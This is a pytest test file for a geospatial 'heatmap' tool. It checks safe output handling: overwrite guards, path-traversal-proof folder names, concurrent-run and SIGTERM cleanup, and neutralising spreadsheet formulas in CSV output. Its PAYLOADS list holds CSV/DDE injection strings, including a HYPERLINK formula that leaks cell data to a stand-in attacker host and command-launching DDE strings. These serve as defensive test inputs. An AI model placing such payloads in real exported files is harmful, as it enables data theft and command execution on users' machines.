"""Nothing of the user's is lost, and nothing heatmap writes runs as code when opened.

- ``--overwrite`` replaces only a folder heatmap wrote (its manifest lists every file in it);
- a scenario name cannot steer the default output folder out of ``outputs/``;
- a run that finishes second never silently replaces the first;
- SIGTERM removes the staging folder;
- CSV cells are inert in a spreadsheet; GeoJSON layer names and ``source`` columns carry no
  temporary names or local absolute paths;
- an unwritable ``--out`` or ``--out .`` is one line and exit 2.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
from _pipeline_helpers import assert_clean_error, describe, invoke
from shapely.geometry import LineString, box

from heatmap import outputs
from heatmap._io import MANIFEST_NAME, check_output_dir, safe_dirname, staged_dir
from heatmap.errors import InputError, OutputExistsError
from heatmap.pipeline.save import _portable

REPO = Path(__file__).resolve().parents[2]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTab",
    "\rCR",
    "\r=cmd|' /C calc'!A0",
]


def _tree(folder: Path) -> dict[str, bytes]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def _heatmap_folder(out: Path) -> None:
    with staged_dir(out) as stage:
        (stage / "summary.json").write_text("{}")
        (stage / "figures").mkdir()
        (stage / "figures" / "a.png").write_bytes(b"png")


# --- --overwrite replaces only what heatmap wrote ------------------------------------------------
def test_manifest_lists_every_file(tmp_path: Path) -> None:
    out = tmp_path / "out"
    _heatmap_folder(out)
    manifest = json.loads((out / MANIFEST_NAME).read_text())
    assert manifest["files"] == ["figures/a.png", "summary.json"]


def test_overwrite_refuses_a_folder_heatmap_did_not_write(tmp_path: Path) -> None:
    out = tmp_path / "documents"
    out.mkdir()
    (out / "thesis.docx").write_text("years of work")
    before = _tree(out)
    with (
        pytest.raises(OutputExistsError, match="not written by heatmap"),
        staged_dir(out, overwrite=True) as stage,
    ):
        (stage / "summary.json").write_text("{}")
    assert _tree(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["documents"]


def test_overwrite_refuses_a_heatmap_folder_holding_a_foreign_file(tmp_path: Path) -> None:
    out = tmp_path / "out"
    _heatmap_folder(out)
    (out / "figures" / "my_notes.txt").write_text("mine")
    before = _tree(out)
    with pytest.raises(OutputExistsError, match=r"1 file\(s\) heatmap did not write"):
        check_output_dir(out, overwrite=True)
    with pytest.raises(OutputExistsError, match=r"my_notes\.txt"), staged_dir(out, overwrite=True):
        pass
    assert _tree(out) == before


def test_overwrite_replaces_a_heatmap_folder(tmp_path: Path) -> None:
    out = tmp_path / "out"
    _heatmap_folder(out)
    with staged_dir(out, overwrite=True) as stage:
        (stage / "new.csv").write_text("a\n1\n")
    assert sorted(_tree(out)) == [MANIFEST_NAME, "new.csv"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


def test_cli_overwrite_on_a_foreign_folder_refuses_before_running(tmp_path: Path) -> None:
    out = tmp_path / "home"
    out.mkdir()
    (out / "photo.jpg").write_bytes(b"\xff\xd8")
    result = invoke("run", "--out", str(out), "--overwrite", "--no-progress")
    assert_clean_error(result, mentions="not written by heatmap")
    assert _tree(out) == {"photo.jpg": b"\xff\xd8"}


# --- default output name -------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../x", "x"),
        ("/etc/passwd", "etc-passwd"),
        ("..", "heatmap-run"),
        ("C:\\Users\\x", "C-Users-x"),
        ("City of London", "City of London"),
        ("a/../../b", "a-..-..-b"),
    ],
)
def test_safe_dirname_is_one_plain_folder_name(name: str, expected: str) -> None:
    got = safe_dirname(name)
    assert got == expected
    root = Path("/srv/outputs")
    assert (root / got).resolve().parent == root


@pytest.mark.slow
def test_scenario_name_with_dotdot_stays_inside_outputs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    boxes = [box(530000 + 30 * i, 180000, 530020 + 30 * i, 180020) for i in range(4)]
    attrs = {"building": ["apartments"] * 4, "building:levels": [4] * 4}
    gpd.GeoDataFrame(attrs, geometry=boxes, crs=27700).to_file(tmp_path / "b.gpkg")
    street = LineString([(529990, 179990), (530130, 179990)])
    gpd.GeoDataFrame({"highway": ["residential"]}, geometry=[street], crs=27700).to_file(
        tmp_path / "s.gpkg"
    )
    work = tmp_path / "work" / "deep"
    work.mkdir(parents=True)
    scenario = work / "shared.toml"
    scenario.write_text(
        'name = "../../escaped"\n[area]\n'
        f'buildings_path = "{(tmp_path / "b.gpkg").as_posix()}"\n'
        f'streets_path = "{(tmp_path / "s.gpkg").as_posix()}"\n'
    )
    monkeypatch.chdir(work)
    result = invoke("run", str(scenario), "--no-progress")
    assert result.exit_code == 0, describe(result)
    assert (work / "outputs" / "escaped" / "summary.json").is_file()
    assert sorted(p.name for p in work.iterdir()) == ["outputs", "shared.toml"]
    assert not (tmp_path / "escaped").exists()
    assert not (tmp_path / "work" / "escaped").exists()


# --- a concurrent run is never replaced silently -------------------------------------------------
def test_a_run_finishing_second_fails_cleanly(tmp_path: Path) -> None:
    out = tmp_path / "out"
    with pytest.raises(OutputExistsError, match="written meanwhile"), staged_dir(out) as stage:
        (stage / "summary.json").write_text('{"run": 2}')
        _heatmap_folder(out)  # the other run finishes first
        first = _tree(out)
    assert _tree(out) == first
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]  # no staging folder left


def test_two_processes_into_one_folder_one_wins(tmp_path: Path) -> None:
    script = textwrap.dedent(
        f"""
        import sys, time
        from heatmap._io import staged_dir
        from heatmap.errors import OutputExistsError
        try:
            with staged_dir({str(tmp_path / "out")!r}) as stage:
                (stage / "who.txt").write_text(sys.argv[1])
                time.sleep(1.0)
        except OutputExistsError as exc:
            print("refused:", exc)
            sys.exit(2)
        """
    )
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    procs = [
        subprocess.Popen(
            [sys.executable, "-c", script, who], env=env, stdout=subprocess.PIPE, text=True
        )
        for who in ("a", "b")
    ]
    codes = sorted(p.wait(timeout=60) for p in procs)
    assert codes == [0, 2]
    assert (tmp_path / "out" / "who.txt").read_text() in {"a", "b"}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


# --- SIGTERM -------------------------------------------------------------------------------------
def test_sigterm_removes_the_staging_folder(tmp_path: Path) -> None:
    script = textwrap.dedent(
        f"""
        import time
        from heatmap._io import staged_dir
        with staged_dir({str(tmp_path / "out")!r}) as stage:
            (stage / "big.bin").write_bytes(b"x" * 1000)
            print("ready", flush=True)
            time.sleep(60)
        """
    )
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    proc = subprocess.Popen([sys.executable, "-c", script], env=env, stdout=subprocess.PIPE)
    assert proc.stdout is not None
    assert proc.stdout.readline().strip() == b"ready"
    assert any(p.name.startswith(".out.partial-") for p in tmp_path.iterdir())
    proc.send_signal(signal.SIGTERM)
    code = proc.wait(timeout=30)
    assert code != 0
    time.sleep(0.1)
    assert list(tmp_path.iterdir()) == []


# --- inert text ----------------------------------------------------------------------------------
def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    table = pd.DataFrame(
        {
            "name": PAYLOADS,
            "heat_demand_mwh_per_a": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0],
            "note": ["-3.5", "+44", "ok", "", None, "=1", "x", "a\rb"],
        },
        index=pd.Index([f"=b{i}" for i in range(8)], name="building_id"),
    )
    path = outputs.write_csv(table, tmp_path / "anchor_loads.csv")
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    for col in ("building_id", "name"):
        for cell in back[col]:
            assert cell.startswith("'"), cell
    assert [c[1:] for c in back["name"]] == [p.replace("\r", "\n") for p in PAYLOADS]
    assert back["heat_demand_mwh_per_a"].tolist()[:2] == ["-1.5", "2.0"]  # numbers stay numbers
    assert back["note"].tolist()[:3] == ["-3.5", "+44", "ok"]  # signed numbers as text too
    assert back["note"].tolist()[5] == "'=1"
    assert table["name"].tolist() == PAYLOADS  # the caller's frame is untouched


# --- no temporary names or local paths inside outputs --------------------------------------------
def test_geojson_layer_name_is_the_file_name(tmp_path: Path) -> None:
    route = gpd.GeoDataFrame(
        {"segment_id": ["s1"]},
        geometry=[LineString([(530000, 180000), (530100, 180000)])],
        crs=27700,
    )
    path = outputs.write_geojson_wgs84(route, tmp_path / "route.geojson")
    assert json.loads(path.read_text())["name"] == "route"


def test_source_column_keeps_file_names_only() -> None:
    frame = pd.DataFrame({"source": ["/home/me/data/city.osm.pbf", "osm", None], "x": [1, 2, 3]})
    out = _portable(frame)
    assert out["source"].tolist()[:2] == ["city.osm.pbf", "osm"]
    assert pd.isna(out["source"][2])
    assert frame["source"][0] == "/home/me/data/city.osm.pbf"


# --- unwritable --out ----------------------------------------------------------------------------
def test_out_under_a_file_is_one_line(tmp_path: Path) -> None:
    blocker = tmp_path / "file.txt"
    blocker.write_text("x")
    with pytest.raises(InputError, match="cannot write there"):
        check_output_dir(blocker / "out", overwrite=False)
    result = invoke("run", "--out", str(blocker / "out"), "--no-progress")
    assert_clean_error(result, mentions="cannot write there")


def test_out_dot_from_inside_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "keep.txt").write_text("x")
    monkeypatch.chdir(tmp_path)
    for args in (("--out", "."), ("--out", ".", "--overwrite"), ("--out", "..")):
        result = invoke("run", *args, "--no-progress")
        assert_clean_error(result, mentions="current folder")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["keep.txt"]


# --- reproducible outputs ------------------------------------------------------------------------
@pytest.mark.slow
def test_two_runs_write_identical_layers_and_tables(
    tmp_path_factory: pytest.TempPathFactory, tmp_path: Path
) -> None:
    from _pipeline_helpers import full_run_dir

    first = full_run_dir(tmp_path_factory)
    second = tmp_path / "again"
    result = invoke("run", "--out", str(second), "--no-progress")
    assert result.exit_code == 0, describe(result)
    texts = sorted(p.relative_to(first).as_posix() for p in first.rglob("*.csv"))
    texts += ["route.geojson", MANIFEST_NAME]
    assert len(texts) > 10
    for name in texts:
        assert (first / name).read_bytes() == (second / name).read_bytes(), name
    a = outputs.read_results_gpkg(first / "results.gpkg")
    b = outputs.read_results_gpkg(second / "results.gpkg")
    assert list(a) == list(b)
    for layer in a:
        pd.testing.assert_frame_equal(
            pd.DataFrame(a[layer].to_wkt()), pd.DataFrame(b[layer].to_wkt()), obj=layer
        )
    for text in (first / "route.geojson").read_text(), (first / "summary.json").read_text():
        assert str(Path.home()) not in text and "/tmp" not in text and ".partial-" not in text


def test_route_layers_get_street_names_from_the_streets_layer() -> None:
    from heatmap.pipeline.save import _with_street_names

    streets = gpd.GeoDataFrame(
        {"name": ["Gresham Street", None]},
        geometry=[LineString([(0, 0), (1, 0)]), LineString([(0, 1), (1, 1)])],
        crs=27700,
        index=pd.Index(["way/1/a-b", "way/2/c-d"], name="street_id"),
    )
    pipes = gpd.GeoDataFrame(
        {"segment_id": [0, 1, 2], "street_id": ["way/1/a-b", "way/2/c-d", None]},
        geometry=[LineString([(0, 0), (1, 0)])] * 3,
        crs=27700,
    )
    named = _with_street_names(pipes, streets)
    assert named["name"].tolist()[0] == "Gresham Street"
    assert named["name"].isna().tolist()[1:] == [True, True]
    assert list(named.columns).index("name") == list(named.columns).index("street_id") + 1
    assert "name" not in pipes.columns
